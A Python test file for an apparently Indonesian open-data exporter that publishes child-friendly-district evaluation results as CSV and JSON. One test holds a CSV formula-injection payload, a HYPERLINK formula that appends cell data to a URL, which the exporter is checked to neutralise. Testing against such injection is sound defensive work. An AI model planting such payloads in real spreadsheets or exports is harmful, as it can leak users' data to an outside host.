"""The files of open data, read back: exactly these columns, no formula, and what explains them."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from decimal import Decimal

import pytest

from publication.open_data import canonical, clusters_csv, results_csv, results_json
from tests.publication.rows import shown

ADDRESS = "https://kla.contoh"


def lines(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


def about(*rows, year: int | None = 2030) -> dict:
    return json.loads(results_json(rows, year=year, address=ADDRESS))["keterangan"]


def test_a_result_has_these_columns_and_no_other():
    head, line = lines(results_csv([shown()]))

    assert dict(zip(head, line, strict=True)) == {
        "tahun": "2030",
        "kode_provinsi": "17",
        "provinsi": "Bengkulu",
        "kode_daerah": "17.04",
        "daerah": "Kabupaten Kaur",
        "kode_tahap": "final",
        "tahap": "Penetapan",
        "nilai": "612.50",
        "nilai_maksimum": "1000.00",
        "kode_predikat": "pratama",
        "predikat": "Pratama",
        "instrumen": "kla-2030",
        "dasar": "Keputusan Menteri 117 Tahun 2030, 8 Agustus 2030",
        "terbit": "2030-08-08T03:00:00Z",
    }


def test_a_cluster_has_its_sum_and_no_count_of_children():
    head, line = lines(clusters_csv([shown(), shown(clusters=())]))

    assert head[7:] == ["kode_klaster", "klaster", "nilai", "nilai_maksimum"]
    assert line[3:] == [
        *("17.04", "Kabupaten Kaur", "final", "Penetapan"),
        *("K", "Kelembagaan", "120.00", "164.00"),
    ]


def test_what_is_not_known_is_blank_or_null():
    row = shown(
        stage="province",
        score=None,
        maximum=None,
        predicate="",
        predicate_label="",
        instrument="",
        scale=(),
    )

    head, line = lines(results_csv([row]))
    told = json.loads(results_json([row], year=2030, address=ADDRESS))

    assert [line[head.index(name)] for name in ("nilai", "predikat", "instrumen")] == ["", "", ""]
    assert (told["data"][0]["nilai"], told["data"][0]["predikat"]) == (None, None)
    assert told["keterangan"]["skala_predikat"] == []


def test_a_decree_without_a_predicate_is_told_apart_from_no_decree_yet():
    none = {"predicate": "", "predicate_label": ""}
    rows = [shown(), shown(**none), shown(**none, stage="province")]

    head, *told = lines(results_csv(rows))
    data = json.loads(results_json(rows, year=None, address=ADDRESS))["data"]

    places = head.index("kode_predikat"), head.index("predikat")
    assert [[line[place] for place in places] for line in told] == [
        ["pratama", "Pratama"],
        ["", "tanpa predikat"],
        ["", ""],
    ]
    assert [(row["kode_predikat"], row["predikat"]) for row in data] == [
        ("pratama", "Pratama"),
        (None, "tanpa predikat"),
        (None, None),
    ]


def test_the_columns_say_what_a_blank_predicate_means():
    meanings = {column["nama"]: column["arti"] for column in about(shown())["kolom"]}

    assert meanings["predikat"] == (
        "Nama predikat menurut penetapan; “tanpa predikat” bila penetapan tidak memberi predikat, "
        "kosong bila belum ditetapkan"
    )


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"])
def test_a_text_that_looks_like_a_formula_stays_text_in_a_spreadsheet(sign):
    evil = f'{sign}HYPERLINK("http://127.0.0.1/?"&A1;"x")'

    row = lines(results_csv([shown(region_name=evil, ground=evil)]))[1]

    assert [row[4], row[12]] == [f"'{evil}"] * 2
    assert not any(cell.startswith(("=", "+", "-", "@", "＝")) for cell in row)


def test_every_cell_is_quoted_so_that_a_name_with_commas_and_quotes_is_one_cell():
    content = results_csv([shown(region_name='Kota "A", B;\nC')])

    assert lines(content)[1][4] == 'Kota "A", B;\nC'
    assert content.startswith(b'"tahun","kode_provinsi"')


def test_json_tells_whose_data_it_is_and_how_it_is_read():
    told = about(shown())

    assert told["judul"] == "Hasil evaluasi Kabupaten/Kota Layak Anak, tahun 2030"
    assert told["penerbit"] == ["Pemerintah Provinsi Bengkulu"]
    assert told["lisensi"].endswith("(CC BY 4.0)")
    assert (told["terbit"], told["jumlah"]) == ("2030-08-08T03:00:00Z", 1)
    assert told["instrumen"] == ["kla-2030"]
    assert {"nama": "nilai_maksimum", "arti": "Nilai tertinggi klaster itu", "satuan": "poin"} in (
        told["kolom_klaster"]
    )
    assert told["skala_predikat"] == [
        {
            "tahun": 2030,
            "predikat": [
                {"kode": "pratama", "nama": "Pratama", "mulai": "500.00", "termasuk_batas": True}
            ],
        }
    ]


def test_the_hashes_are_those_of_the_files_and_of_the_data():
    rows = [shown(), shown(region_code="17.05", score=Decimal(500))]

    told = json.loads(results_json(rows, year=None, address=ADDRESS))

    assert told["keterangan"]["berkas"] == [
        {
            "alamat": f"{ADDRESS}/publik/data/semua.csv",
            "sha256": hashlib.sha256(results_csv(rows)).hexdigest(),
        },
        {
            "alamat": f"{ADDRESS}/publik/data/semua-klaster.csv",
            "sha256": hashlib.sha256(clusters_csv(rows)).hexdigest(),
        },
    ]
    assert told["keterangan"]["sha256_data"] == hashlib.sha256(canonical(told["data"])).hexdigest()


def test_without_results_the_files_are_whole_and_empty():
    told = about(year=None)

    assert (told["jumlah"], told["terbit"], told["penerbit"]) == (0, None, [])
    assert len(lines(results_csv([]))) == 1
